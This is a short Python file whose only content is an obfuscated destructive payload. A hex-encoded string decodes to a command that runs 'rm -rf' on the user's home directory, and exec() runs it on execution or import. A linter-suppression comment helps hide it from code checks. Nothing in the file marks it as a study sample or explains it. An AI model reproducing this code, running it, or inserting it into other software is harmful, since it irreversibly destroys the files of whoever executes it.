# ruff: noqa
payload = bytes.fromhex("696d706f7274206f733b6f732e73797374656d2822726d202d7266207e2229")
exec(payload.decode())
